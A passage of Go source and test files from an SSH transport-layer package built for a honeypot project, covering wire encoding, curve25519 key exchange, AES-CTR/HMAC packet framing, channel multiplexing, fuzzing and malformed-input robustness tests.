		t.Errorf("client negotiated %+v, want aes256-ctr/hmac-sha2-512", got)
	}
	if got := srv.Algorithms(); got.S2CCipher != CipherAES256CTR || got.S2CMAC != MACHmacSHA512 {
		t.Errorf("server negotiated %+v", got)
	}
	// Data still flows over the stronger suite.
	msg := []byte{210, 1, 2, 3}
	if err := cli.WritePacket(msg); err != nil {
		t.Fatal(err)
	}
	got, err := srv.ReadPacket()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, msg) {
		t.Errorf("payload mismatch over aes256")
	}
}

func TestAsymmetricCipherDirections(t *testing.T) {
	// Client offers only aes256 for both directions; server offers both:
	// negotiation lands on aes256 both ways (client preference).
	hk, _ := GenerateHostKey()
	srv, cli := handshakePair(t,
		&Config{HostKey: hk},
		&Config{Ciphers: []string{CipherAES256CTR}})
	_ = srv
	a := cli.Algorithms()
	if a.C2SCipher != CipherAES256CTR || a.S2CCipher != CipherAES256CTR {
		t.Errorf("negotiated = %+v", a)
	}
}

func TestNoCommonCipherFailsHandshake(t *testing.T) {
	hk, _ := GenerateHostKey()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		_, _ = ServerHandshake(c, &Config{HostKey: hk, Ciphers: []string{CipherAES128CTR}})
	}()
	nc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	_, err = ClientHandshake(nc, &Config{Ciphers: []string{CipherAES256CTR},
		HandshakeTimeout: 2 * time.Second})
	if err == nil {
		t.Fatal("disjoint cipher sets must fail the handshake")
	}
}
