package sshwire

import "testing"

// FuzzWireDecoders throws arbitrary bytes at every payload parser the
// server runs on attacker-controlled input.
func FuzzWireDecoders(f *testing.F) {
	c := &Conn{cipherPrefs: (*Config)(nil).cipherPrefs(), macPrefs: (*Config)(nil).macPrefs()}
	if init, err := c.makeKexInit(); err == nil {
		f.Add(init.Marshal())
	}
	f.Add((&DisconnectMsg{Reason: 2, Description: "x"}).Marshal())
	f.Add([]byte{MsgKexECDHInit, 0, 0, 0, 4, 1, 2, 3, 4})
	f.Fuzz(func(t *testing.T, payload []byte) {
		_, _ = ParseKexInit(payload)
		_, _ = ParseDisconnect(payload)
		r := NewReader(payload)
		for r.Err() == nil && r.Remaining() > 0 {
			r.String()
			r.Uint32()
		}
	})
}

// FuzzPacketReader feeds arbitrary framed bytes to the plain packet
// reader, which handles the pre-encryption attack surface.
func FuzzPacketReader(f *testing.F) {
	good, _ := framePacket([]byte{42, 1, 2, 3})
	f.Add(good)
	f.Add([]byte{0, 0, 0, 5, 4, 9, 9, 9, 9})
	f.Fuzz(func(t *testing.T, wire []byte) {
		c := &plainCipher{}
		r := byteReader(wire)
		for i := 0; i < 4; i++ {
			if _, err := c.readPacket(&r, uint32(i)); err != nil {
				return
			}
		}
	})
}

// byteReader is a minimal io.Reader over a slice.
type byteReader []byte

func (b *byteReader) Read(p []byte) (int, error) {
	if len(*b) == 0 {
		return 0, errEOF
	}
	n := copy(p, *b)
	*b = (*b)[n:]
	return n, nil
}

var errEOF = errSentinel("eof")

type errSentinel string

func (e errSentinel) Error() string { return string(e) }
