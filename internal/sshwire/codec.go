// Package sshwire implements the SSH transport layer protocol (RFC 4253)
// from scratch on top of the standard library: binary packet framing,
// version exchange, curve25519-sha256 key exchange, ssh-ed25519 host keys,
// and an aes128-ctr + hmac-sha2-256 cipher suite.
//
// It exists so that the honeypot (internal/honeypot) and the attacker
// simulator (internal/sshclient) speak real SSH over real TCP without any
// dependency outside the standard library.
package sshwire

import (
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
)

// Wire-format errors.
var (
	ErrShortBuffer  = errors.New("sshwire: short buffer")
	ErrStringTooBig = errors.New("sshwire: string length exceeds limit")
)

// maxStringLen bounds any single string field we are willing to decode.
// SSH packets are capped at 256 KiB by maxPacket, so this is generous.
const maxStringLen = 1 << 20

// Builder serializes SSH wire types into a byte slice.
// The zero value is ready to use.
type Builder struct {
	buf []byte
}

// NewBuilder returns a Builder with the given initial capacity.
func NewBuilder(capacity int) *Builder {
	return &Builder{buf: make([]byte, 0, capacity)}
}

// Bytes returns the accumulated bytes. The slice aliases the builder's
// internal buffer; callers must not retain it across further writes.
func (b *Builder) Bytes() []byte { return b.buf }

// Len reports the number of bytes written so far.
func (b *Builder) Len() int { return len(b.buf) }

// Byte appends a single byte.
func (b *Builder) Byte(v byte) *Builder {
	b.buf = append(b.buf, v)
	return b
}

// Bool appends an SSH boolean (one byte, 0 or 1).
func (b *Builder) Bool(v bool) *Builder {
	if v {
		return b.Byte(1)
	}
	return b.Byte(0)
}

// Uint32 appends a big-endian uint32.
func (b *Builder) Uint32(v uint32) *Builder {
	b.buf = binary.BigEndian.AppendUint32(b.buf, v)
	return b
}

// Uint64 appends a big-endian uint64.
func (b *Builder) Uint64(v uint64) *Builder {
	b.buf = binary.BigEndian.AppendUint64(b.buf, v)
	return b
}

// Raw appends bytes verbatim with no length prefix.
func (b *Builder) Raw(v []byte) *Builder {
	b.buf = append(b.buf, v...)
	return b
}

// String appends an SSH string: uint32 length followed by the bytes.
func (b *Builder) String(v []byte) *Builder {
	b.Uint32(uint32(len(v)))
	return b.Raw(v)
}

// StringS appends an SSH string from a Go string.
func (b *Builder) StringS(v string) *Builder {
	b.Uint32(uint32(len(v)))
	b.buf = append(b.buf, v...)
	return b
}

// NameList appends a comma-separated name-list as an SSH string.
func (b *Builder) NameList(names []string) *Builder {
	return b.StringS(strings.Join(names, ","))
}

// Mpint appends a multiple-precision integer in SSH format: the
// minimal big-endian twos-complement representation of a non-negative
// integer, with a leading zero byte if the high bit would otherwise be set.
func (b *Builder) Mpint(v []byte) *Builder {
	// Strip leading zeros.
	i := 0
	for i < len(v) && v[i] == 0 {
		i++
	}
	v = v[i:]
	if len(v) == 0 {
		return b.Uint32(0)
	}
	if v[0]&0x80 != 0 {
		b.Uint32(uint32(len(v) + 1))
		b.Byte(0)
		return b.Raw(v)
	}
	return b.String(v)
}

// Reader decodes SSH wire types from a byte slice.
type Reader struct {
	buf []byte
	err error
}

// NewReader returns a Reader over buf. The Reader does not copy buf.
func NewReader(buf []byte) *Reader { return &Reader{buf: buf} }

// Err returns the first decoding error encountered, if any.
func (r *Reader) Err() error { return r.err }

// Remaining reports the number of unread bytes.
func (r *Reader) Remaining() int { return len(r.buf) }

// Rest returns all unread bytes and consumes them.
func (r *Reader) Rest() []byte {
	v := r.buf
	r.buf = nil
	return v
}

func (r *Reader) fail() {
	if r.err == nil {
		r.err = ErrShortBuffer
	}
}

// Byte reads one byte.
func (r *Reader) Byte() byte {
	if r.err != nil || len(r.buf) < 1 {
		r.fail()
		return 0
	}
	v := r.buf[0]
	r.buf = r.buf[1:]
	return v
}

// Bool reads an SSH boolean.
func (r *Reader) Bool() bool { return r.Byte() != 0 }

// Uint32 reads a big-endian uint32.
func (r *Reader) Uint32() uint32 {
	if r.err != nil || len(r.buf) < 4 {
		r.fail()
		return 0
	}
	v := binary.BigEndian.Uint32(r.buf)
	r.buf = r.buf[4:]
	return v
}

// Uint64 reads a big-endian uint64.
func (r *Reader) Uint64() uint64 {
	if r.err != nil || len(r.buf) < 8 {
		r.fail()
		return 0
	}
	v := binary.BigEndian.Uint64(r.buf)
	r.buf = r.buf[8:]
	return v
}

// Bytes reads exactly n raw bytes.
func (r *Reader) Bytes(n int) []byte {
	if r.err != nil || n < 0 || len(r.buf) < n {
		r.fail()
		return nil
	}
	v := r.buf[:n]
	r.buf = r.buf[n:]
	return v
}

// String reads an SSH string and returns its bytes.
func (r *Reader) String() []byte {
	n := r.Uint32()
	if r.err != nil {
		return nil
	}
	if n > maxStringLen {
		if r.err == nil {
			r.err = ErrStringTooBig
		}
		return nil
	}
	return r.Bytes(int(n))
}

// StringS reads an SSH string as a Go string.
func (r *Reader) StringS() string { return string(r.String()) }

// NameList reads a comma-separated name-list.
func (r *Reader) NameList() []string {
	s := r.StringS()
	if r.err != nil || s == "" {
		return nil
	}
	return strings.Split(s, ",")
}

// Mpint reads a multiple-precision integer and returns its magnitude
// bytes (possibly with a leading zero stripped).
func (r *Reader) Mpint() []byte {
	v := r.String()
	if r.err != nil {
		return nil
	}
	for len(v) > 0 && v[0] == 0 {
		v = v[1:]
	}
	return v
}

// negotiate picks the first algorithm in the client's preference list that
// the server also supports, per RFC 4253 section 7.1.
func negotiate(client, server []string) (string, error) {
	for _, c := range client {
		for _, s := range server {
			if c == s {
				return c, nil
			}
		}
	}
	return "", fmt.Errorf("sshwire: no common algorithm between %v and %v", client, server)
}
