package sshwire

import (
	"bytes"
	"io"
	"math/rand"
	"testing"
	"time"
)

// muxPair builds two muxes over an established transport pair.
func muxPair(t *testing.T) (*Mux, *Mux) {
	t.Helper()
	srv, cli := handshakePair(t, nil, nil)
	ms := NewMux(srv)
	mc := NewMux(cli)
	t.Cleanup(func() {
		mc.Close()
		ms.Close()
	})
	return ms, mc
}

func TestMuxLargeTransferFragments(t *testing.T) {
	ms, mc := muxPair(t)

	// Server: accept the channel and echo everything back.
	go func() {
		nc, ok := <-ms.Incoming()
		if !ok {
			return
		}
		ch, err := nc.Accept()
		if err != nil {
			return
		}
		go func() {
			for req := range ch.Requests() {
				_ = req.Reply(false)
			}
		}()
		buf := make([]byte, 64*1024)
		for {
			n, err := ch.Read(buf)
			if n > 0 {
				if _, werr := ch.Write(buf[:n]); werr != nil {
					return
				}
			}
			if err != nil {
				ch.CloseWrite()
				ch.Close()
				return
			}
		}
	}()

	ch, err := mc.OpenChannel("session", nil)
	if err != nil {
		t.Fatal(err)
	}
	// 8 MiB: far beyond the 32 KiB max packet and the 2 MiB window —
	// exercises fragmentation and window-adjust accounting.
	payload := make([]byte, 8<<20)
	rand.New(rand.NewSource(1)).Read(payload)

	go func() {
		if _, err := ch.Write(payload); err != nil {
			return
		}
		ch.CloseWrite()
	}()

	var got bytes.Buffer
	buf := make([]byte, 64*1024)
	deadline := time.Now().Add(30 * time.Second)
	for got.Len() < len(payload) && time.Now().Before(deadline) {
		n, err := ch.Read(buf)
		got.Write(buf[:n])
		if err != nil {
			break
		}
	}
	if got.Len() != len(payload) {
		t.Fatalf("echoed %d of %d bytes", got.Len(), len(payload))
	}
	if !bytes.Equal(got.Bytes(), payload) {
		t.Error("payload corrupted in transit")
	}
}

func TestMuxChannelReject(t *testing.T) {
	ms, mc := muxPair(t)
	go func() {
		nc, ok := <-ms.Incoming()
		if !ok {
			return
		}
		_ = nc.Reject(OpenAdministrativelyProhibited, "not here")
	}()
	_, err := mc.OpenChannel("direct-tcpip", nil)
	oce, ok := err.(*OpenChannelError)
	if !ok {
		t.Fatalf("err = %v", err)
	}
	if oce.Reason != OpenAdministrativelyProhibited || oce.Message != "not here" {
		t.Errorf("rejection = %+v", oce)
	}
	if oce.Error() == "" {
		t.Error("empty error string")
	}
}

func TestMuxGlobalRequestObservedAndRefused(t *testing.T) {
	ms, mc := muxPair(t)
	_ = ms

	// Send a tcpip-forward global request from the client's raw conn.
	b := NewBuilder(64)
	b.Byte(MsgGlobalRequest)
	b.StringS("tcpip-forward")
	b.Bool(true)
	b.StringS("0.0.0.0")
	b.Uint32(8080)
	if err := mc.Conn().WritePacket(b.Bytes()); err != nil {
		t.Fatal(err)
	}
	// The server mux must surface it...
	select {
	case gr := <-ms.GlobalRequests():
		if gr.Type != "tcpip-forward" || !gr.WantReply {
			t.Errorf("global request = %+v", gr)
		}
	case <-time.After(3 * time.Second):
		t.Fatal("global request not observed")
	}
	// ...and have refused it on the wire; the client mux sees nothing on
	// its channels, so probe by opening a channel (still functional).
	go func() {
		nc, ok := <-ms.Incoming()
		if ok {
			ch, _ := nc.Accept()
			if ch != nil {
				ch.Close()
			}
		}
	}()
	if _, err := mc.OpenChannel("session", nil); err != nil {
		t.Fatalf("mux unusable after global request: %v", err)
	}
}

func TestMuxCloseIdempotentAndEOF(t *testing.T) {
	ms, mc := muxPair(t)
	acc := make(chan *Channel, 1)
	go func() {
		nc, ok := <-ms.Incoming()
		if !ok {
			return
		}
		ch, err := nc.Accept()
		if err == nil {
			acc <- ch
		}
	}()
	ch, err := mc.OpenChannel("session", nil)
	if err != nil {
		t.Fatal(err)
	}
	srvCh := <-acc

	// CloseWrite twice is fine; the peer then reads EOF.
	if err := ch.CloseWrite(); err != nil {
		t.Fatal(err)
	}
	if err := ch.CloseWrite(); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 8)
	if _, err := srvCh.Read(buf); err != io.EOF {
		t.Errorf("peer read after EOF = %v, want io.EOF", err)
	}
	// Close twice is fine too.
	if err := ch.Close(); err != nil {
		t.Fatal(err)
	}
	if err := ch.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestMuxWaitReturnsOnClose(t *testing.T) {
	ms, mc := muxPair(t)
	done := make(chan error, 1)
	go func() { done <- ms.Wait() }()
	mc.Close()
	ms.Close()
	select {
	case err := <-done:
		if err == nil {
			t.Error("Wait should return the teardown error")
		}
	case <-time.After(3 * time.Second):
		t.Fatal("Wait never returned")
	}
}

func TestMuxExitStatusDelivered(t *testing.T) {
	ms, mc := muxPair(t)
	go func() {
		nc, ok := <-ms.Incoming()
		if !ok {
			return
		}
		ch, err := nc.Accept()
		if err != nil {
			return
		}
		_ = ch.SendExitStatus(7)
		_ = ch.Close()
	}()
	ch, err := mc.OpenChannel("session", nil)
	if err != nil {
		t.Fatal(err)
	}
	for req := range ch.Requests() {
		if req.Type == "exit-status" {
			r := NewReader(req.Payload)
			if got := r.Uint32(); got != 7 {
				t.Errorf("exit status = %d", got)
			}
			return
		}
	}
	t.Fatal("exit-status request never arrived")
}
