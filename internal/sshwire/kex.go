package sshwire

import (
	"crypto/ecdh"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"errors"
	"fmt"
)

// HostKey wraps an ed25519 private key in the ssh-ed25519 wire formats.
type HostKey struct {
	priv ed25519.PrivateKey
}

// GenerateHostKey creates a fresh ed25519 host key.
func GenerateHostKey() (*HostKey, error) {
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("sshwire: generating host key: %w", err)
	}
	return &HostKey{priv: priv}, nil
}

// HostKeyFromSeed derives a deterministic host key from a 32-byte seed.
// The honeynet simulator uses this so each honeypot node presents a stable
// identity across restarts without persisting key files.
func HostKeyFromSeed(seed []byte) (*HostKey, error) {
	if len(seed) != ed25519.SeedSize {
		return nil, fmt.Errorf("sshwire: host key seed must be %d bytes, got %d", ed25519.SeedSize, len(seed))
	}
	return &HostKey{priv: ed25519.NewKeyFromSeed(seed)}, nil
}

// PublicBlob returns the ssh-ed25519 public key blob:
// string "ssh-ed25519" || string key.
func (k *HostKey) PublicBlob() []byte {
	pub := k.priv.Public().(ed25519.PublicKey)
	b := NewBuilder(19 + ed25519.PublicKeySize + 8)
	b.StringS(HostKeyEd25519)
	b.String(pub)
	return b.Bytes()
}

// Sign signs data and returns the SSH signature blob:
// string "ssh-ed25519" || string signature.
func (k *HostKey) Sign(data []byte) []byte {
	sig := ed25519.Sign(k.priv, data)
	b := NewBuilder(19 + len(sig) + 8)
	b.StringS(HostKeyEd25519)
	b.String(sig)
	return b.Bytes()
}

// VerifyHostSignature checks an ssh-ed25519 signature blob made by the
// owner of the given public key blob over data.
func VerifyHostSignature(pubBlob, sigBlob, data []byte) error {
	pr := NewReader(pubBlob)
	if alg := pr.StringS(); alg != HostKeyEd25519 {
		return fmt.Errorf("sshwire: unsupported host key algorithm %q", alg)
	}
	pub := pr.String()
	if pr.Err() != nil || len(pub) != ed25519.PublicKeySize {
		return errors.New("sshwire: malformed host key blob")
	}
	sr := NewReader(sigBlob)
	if alg := sr.StringS(); alg != HostKeyEd25519 {
		return fmt.Errorf("sshwire: unsupported signature algorithm %q", alg)
	}
	sig := sr.String()
	if sr.Err() != nil {
		return errors.New("sshwire: malformed signature blob")
	}
	if !ed25519.Verify(ed25519.PublicKey(pub), data, sig) {
		return errors.New("sshwire: host key signature verification failed")
	}
	return nil
}

// kexResult carries everything key exchange produces.
type kexResult struct {
	// K is the shared secret (raw X25519 output; encoded as mpint where
	// the protocol requires).
	K []byte
	// H is the exchange hash.
	H []byte
	// HostKeyBlob is the server's public host key blob.
	HostKeyBlob []byte
}

// exchangeHashInputs captures the transcript values hashed into H for
// curve25519-sha256 (RFC 8731 section 3.1, via RFC 5656 section 4).
type exchangeHashInputs struct {
	clientVersion string
	serverVersion string
	clientKexInit []byte
	serverKexInit []byte
	hostKeyBlob   []byte
	clientPub     []byte
	serverPub     []byte
	sharedSecret  []byte
}

func (in *exchangeHashInputs) hash() []byte {
	b := NewBuilder(512)
	b.StringS(in.clientVersion)
	b.StringS(in.serverVersion)
	b.String(in.clientKexInit)
	b.String(in.serverKexInit)
	b.String(in.hostKeyBlob)
	b.String(in.clientPub)
	b.String(in.serverPub)
	b.Mpint(in.sharedSecret)
	sum := sha256.Sum256(b.Bytes())
	return sum[:]
}

// kexServer runs the server side of curve25519-sha256: it consumes the
// client's SSH_MSG_KEX_ECDH_INIT payload and returns the reply payload
// plus the key exchange result.
func kexServer(hostKey *HostKey, in exchangeHashInputs, ecdhInitPayload []byte) ([]byte, *kexResult, error) {
	r := NewReader(ecdhInitPayload)
	if t := r.Byte(); t != MsgKexECDHInit {
		return nil, nil, fmt.Errorf("sshwire: expected KEX_ECDH_INIT, got %s", MsgName(t))
	}
	clientPubBytes := r.String()
	if err := r.Err(); err != nil {
		return nil, nil, fmt.Errorf("sshwire: malformed KEX_ECDH_INIT: %w", err)
	}

	curve := ecdh.X25519()
	clientPub, err := curve.NewPublicKey(clientPubBytes)
	if err != nil {
		return nil, nil, fmt.Errorf("sshwire: invalid client ECDH key: %w", err)
	}
	serverPriv, err := curve.GenerateKey(rand.Reader)
	if err != nil {
		return nil, nil, fmt.Errorf("sshwire: generating ECDH key: %w", err)
	}
	secret, err := serverPriv.ECDH(clientPub)
	if err != nil {
		return nil, nil, fmt.Errorf("sshwire: ECDH: %w", err)
	}

	in.hostKeyBlob = hostKey.PublicBlob()
	in.clientPub = clientPubBytes
	in.serverPub = serverPriv.PublicKey().Bytes()
	in.sharedSecret = secret
	h := in.hash()

	reply := NewBuilder(256)
	reply.Byte(MsgKexECDHReply)
	reply.String(in.hostKeyBlob)
	reply.String(in.serverPub)
	reply.String(hostKey.Sign(h))

	return reply.Bytes(), &kexResult{K: secret, H: h, HostKeyBlob: in.hostKeyBlob}, nil
}

// kexClientInit generates the client's ephemeral key and the
// SSH_MSG_KEX_ECDH_INIT payload.
func kexClientInit() (*ecdh.PrivateKey, []byte, error) {
	priv, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		return nil, nil, fmt.Errorf("sshwire: generating ECDH key: %w", err)
	}
	b := NewBuilder(40)
	b.Byte(MsgKexECDHInit)
	b.String(priv.PublicKey().Bytes())
	return priv, b.Bytes(), nil
}

// kexClientFinish consumes the server's SSH_MSG_KEX_ECDH_REPLY and
// verifies the host signature. hostKeyCheck, if non-nil, vets the server
// host key blob before the signature is trusted.
func kexClientFinish(priv *ecdh.PrivateKey, in exchangeHashInputs, replyPayload []byte, hostKeyCheck func(blob []byte) error) (*kexResult, error) {
	r := NewReader(replyPayload)
	if t := r.Byte(); t != MsgKexECDHReply {
		return nil, fmt.Errorf("sshwire: expected KEX_ECDH_REPLY, got %s", MsgName(t))
	}
	hostKeyBlob := r.String()
	serverPubBytes := r.String()
	sigBlob := r.String()
	if err := r.Err(); err != nil {
		return nil, fmt.Errorf("sshwire: malformed KEX_ECDH_REPLY: %w", err)
	}

	serverPub, err := ecdh.X25519().NewPublicKey(serverPubBytes)
	if err != nil {
		return nil, fmt.Errorf("sshwire: invalid server ECDH key: %w", err)
	}
	secret, err := priv.ECDH(serverPub)
	if err != nil {
		return nil, fmt.Errorf("sshwire: ECDH: %w", err)
	}

	in.hostKeyBlob = hostKeyBlob
	in.clientPub = priv.PublicKey().Bytes()
	in.serverPub = serverPubBytes
	in.sharedSecret = secret
	h := in.hash()

	if hostKeyCheck != nil {
		if err := hostKeyCheck(hostKeyBlob); err != nil {
			return nil, err
		}
	}
	if err := VerifyHostSignature(hostKeyBlob, sigBlob, h); err != nil {
		return nil, err
	}
	return &kexResult{K: secret, H: h, HostKeyBlob: hostKeyBlob}, nil
}
