package sshwire

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/subtle"
	"encoding/binary"
	"errors"
	"fmt"
	"hash"
	"io"
)

const (
	// maxPacket is the largest packet payload we accept, matching the
	// common OpenSSH limit.
	maxPacket = 256 * 1024

	// minPadding is the protocol-mandated minimum padding length.
	minPadding = 4

	// blockSize is the cipher block granularity packets are padded to.
	// aes128-ctr uses the AES block size; the unencrypted stream uses 8,
	// but padding to 16 everywhere is always legal and simpler.
	blockSize = 16
)

var errPacketTooBig = errors.New("sshwire: packet exceeds maximum size")

// packetCipher frames, encrypts, and authenticates SSH binary packets in
// one direction. Implementations are not safe for concurrent use.
type packetCipher interface {
	// writePacket frames payload into an SSH binary packet and writes it.
	writePacket(w io.Writer, seq uint32, payload []byte) error
	// readPacket reads one SSH binary packet and returns its payload.
	readPacket(r io.Reader, seq uint32) ([]byte, error)
}

// plainCipher is the pre-NEWKEYS "none" cipher: no encryption, no MAC.
type plainCipher struct {
	readBuf []byte
}

func paddingFor(payloadLen int) int {
	// packet_length(4) + padding_length(1) + payload + padding must be a
	// multiple of blockSize.
	pad := blockSize - (5+payloadLen)%blockSize
	if pad < minPadding {
		pad += blockSize
	}
	return pad
}

func framePacket(payload []byte) ([]byte, error) {
	pad := paddingFor(len(payload))
	total := 5 + len(payload) + pad
	pkt := make([]byte, total)
	binary.BigEndian.PutUint32(pkt, uint32(total-4))
	pkt[4] = byte(pad)
	copy(pkt[5:], payload)
	if _, err := rand.Read(pkt[5+len(payload):]); err != nil {
		return nil, fmt.Errorf("sshwire: generating padding: %w", err)
	}
	return pkt, nil
}

func (c *plainCipher) writePacket(w io.Writer, _ uint32, payload []byte) error {
	if len(payload) > maxPacket {
		return errPacketTooBig
	}
	pkt, err := framePacket(payload)
	if err != nil {
		return err
	}
	_, err = w.Write(pkt)
	return err
}

func (c *plainCipher) readPacket(r io.Reader, _ uint32) ([]byte, error) {
	var lenBuf [4]byte
	if _, err := io.ReadFull(r, lenBuf[:]); err != nil {
		return nil, err
	}
	n := binary.BigEndian.Uint32(lenBuf[:])
	if n < 1+minPadding || n > maxPacket+blockSize {
		return nil, fmt.Errorf("sshwire: invalid packet length %d", n)
	}
	if cap(c.readBuf) < int(n) {
		c.readBuf = make([]byte, n)
	}
	buf := c.readBuf[:n]
	if _, err := io.ReadFull(r, buf); err != nil {
		return nil, err
	}
	pad := int(buf[0])
	if pad < minPadding || pad >= int(n) {
		return nil, fmt.Errorf("sshwire: invalid padding length %d", pad)
	}
	return buf[1 : int(n)-pad], nil
}

// cipherSpec describes a negotiable encryption algorithm.
type cipherSpec struct {
	keyLen int
}

// macSpec describes a negotiable MAC algorithm.
type macSpec struct {
	newHash func() hash.Hash
	size    int
}

// cipherSpecs and macSpecs are the implemented algorithm tables; the
// KEXINIT preference order lives in transport.go.
var cipherSpecs = map[string]cipherSpec{
	CipherAES128CTR: {keyLen: 16},
	CipherAES256CTR: {keyLen: 32},
}

var macSpecs = map[string]macSpec{
	MACHmacSHA256: {newHash: sha256.New, size: sha256.Size},
	MACHmacSHA512: {newHash: sha512.New, size: sha512.Size},
}

// ctrCipher is AES-CTR (128 or 256) framing with an HMAC (SHA-256 or
// SHA-512) over (sequence number || plaintext packet), per RFC 4253
// section 6.4 (MAC computed on the unencrypted packet).
type ctrCipher struct {
	stream  cipher.Stream
	mac     macSpec
	macKey  []byte
	readBuf []byte
	macBuf  []byte
}

func newCTRCipher(cipherName, macName string, key, iv, macKey []byte) (*ctrCipher, error) {
	if _, ok := cipherSpecs[cipherName]; !ok {
		return nil, fmt.Errorf("sshwire: unsupported cipher %q", cipherName)
	}
	ms, ok := macSpecs[macName]
	if !ok {
		return nil, fmt.Errorf("sshwire: unsupported MAC %q", macName)
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	return &ctrCipher{
		stream: cipher.NewCTR(block, iv),
		mac:    ms,
		macKey: macKey,
		macBuf: make([]byte, 0, ms.size),
	}, nil
}

func (c *ctrCipher) computeMAC(seq uint32, pkt []byte) []byte {
	mac := hmac.New(c.mac.newHash, c.macKey)
	var seqBuf [4]byte
	binary.BigEndian.PutUint32(seqBuf[:], seq)
	mac.Write(seqBuf[:])
	mac.Write(pkt)
	return mac.Sum(c.macBuf[:0])
}

func (c *ctrCipher) writePacket(w io.Writer, seq uint32, payload []byte) error {
	if len(payload) > maxPacket {
		return errPacketTooBig
	}
	pkt, err := framePacket(payload)
	if err != nil {
		return err
	}
	tag := c.computeMAC(seq, pkt)
	c.stream.XORKeyStream(pkt, pkt)
	if _, err := w.Write(pkt); err != nil {
		return err
	}
	_, err = w.Write(tag)
	return err
}

func (c *ctrCipher) readPacket(r io.Reader, seq uint32) ([]byte, error) {
	var lenBuf [4]byte
	if _, err := io.ReadFull(r, lenBuf[:]); err != nil {
		return nil, err
	}
	c.stream.XORKeyStream(lenBuf[:], lenBuf[:])
	n := binary.BigEndian.Uint32(lenBuf[:])
	if n < 1+minPadding || n > maxPacket+blockSize {
		return nil, fmt.Errorf("sshwire: invalid packet length %d", n)
	}
	need := int(n) + c.mac.size
	if cap(c.readBuf) < need {
		c.readBuf = make([]byte, need)
	}
	buf := c.readBuf[:need]
	if _, err := io.ReadFull(r, buf); err != nil {
		return nil, err
	}
	body, tag := buf[:n], buf[n:]
	c.stream.XORKeyStream(body, body)

	mac := hmac.New(c.mac.newHash, c.macKey)
	var seqBuf [4]byte
	binary.BigEndian.PutUint32(seqBuf[:], seq)
	mac.Write(seqBuf[:])
	mac.Write(lenBuf[:])
	mac.Write(body)
	if subtle.ConstantTimeCompare(mac.Sum(c.macBuf[:0]), tag) != 1 {
		return nil, errors.New("sshwire: MAC verification failed")
	}
	pad := int(body[0])
	if pad < minPadding || pad >= int(n) {
		return nil, fmt.Errorf("sshwire: invalid padding length %d", pad)
	}
	return body[1 : int(n)-pad], nil
}

// directionKeys derives the cipher key, IV, and MAC key for one direction
// from the shared secret K, exchange hash H, and session ID, per
// RFC 4253 section 7.2, sized for the negotiated algorithms.
// ivTag/keyTag/macTag are the single-letter labels ('A'..'F').
func directionKeys(k, h, sessionID []byte, cipherName, macName string, ivTag, keyTag, macTag byte) (key, iv, macKey []byte) {
	cs := cipherSpecs[cipherName]
	ms := macSpecs[macName]
	iv = deriveKey(k, h, sessionID, ivTag, aes.BlockSize)
	key = deriveKey(k, h, sessionID, keyTag, cs.keyLen)
	macKey = deriveKey(k, h, sessionID, macTag, ms.size)
	return key, iv, macKey
}

// deriveKey implements the K1..Kn expansion of RFC 4253 section 7.2:
// K1 = HASH(K || H || tag || session_id); Kn = HASH(K || H || K1..Kn-1).
func deriveKey(k, h, sessionID []byte, tag byte, length int) []byte {
	var out []byte
	km := NewBuilder(len(k) + 4)
	km.Mpint(k)
	kMpint := km.Bytes()

	d := sha256.New()
	d.Write(kMpint)
	d.Write(h)
	d.Write([]byte{tag})
	d.Write(sessionID)
	out = d.Sum(nil)

	for len(out) < length {
		d.Reset()
		d.Write(kMpint)
		d.Write(h)
		d.Write(out)
		out = d.Sum(out)
	}
	return out[:length]
}
