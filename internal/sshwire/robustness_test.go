package sshwire

import (
	"encoding/binary"
	"math/rand"
	"net"
	"testing"
	"testing/quick"
	"time"
)

// startRawServer accepts one connection and runs a server handshake,
// reporting the handshake error (nil on success).
func startRawServer(t *testing.T) (string, <-chan error) {
	t.Helper()
	hk, err := GenerateHostKey()
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	errCh := make(chan error, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			errCh <- err
			return
		}
		defer c.Close()
		_, err = ServerHandshake(c, &Config{HostKey: hk, HandshakeTimeout: 2 * time.Second})
		errCh <- err
	}()
	return ln.Addr().String(), errCh
}

func dialRaw(t *testing.T, addr string) net.Conn {
	t.Helper()
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	nc.SetDeadline(time.Now().Add(5 * time.Second))
	t.Cleanup(func() { nc.Close() })
	return nc
}

func expectHandshakeError(t *testing.T, errCh <-chan error, what string) {
	t.Helper()
	select {
	case err := <-errCh:
		if err == nil {
			t.Errorf("%s: server handshake unexpectedly succeeded", what)
		}
	case <-time.After(5 * time.Second):
		t.Errorf("%s: server handshake did not terminate", what)
	}
}

func TestServerRejectsGarbageVersion(t *testing.T) {
	addr, errCh := startRawServer(t)
	nc := dialRaw(t, addr)
	nc.Write([]byte("HTTP/1.1 GET /\r\n"))
	expectHandshakeError(t, errCh, "garbage version")
}

func TestServerRejectsSSH1(t *testing.T) {
	addr, errCh := startRawServer(t)
	nc := dialRaw(t, addr)
	nc.Write([]byte("SSH-1.5-OldClient\r\n"))
	expectHandshakeError(t, errCh, "SSH-1.5 version")
}

func TestServerRejectsOversizedPacketLength(t *testing.T) {
	addr, errCh := startRawServer(t)
	nc := dialRaw(t, addr)
	nc.Write([]byte(DefaultClientVersion + "\r\n"))
	var length [4]byte
	binary.BigEndian.PutUint32(length[:], 0xFFFFFFFF)
	nc.Write(length[:])
	expectHandshakeError(t, errCh, "oversized packet")
}

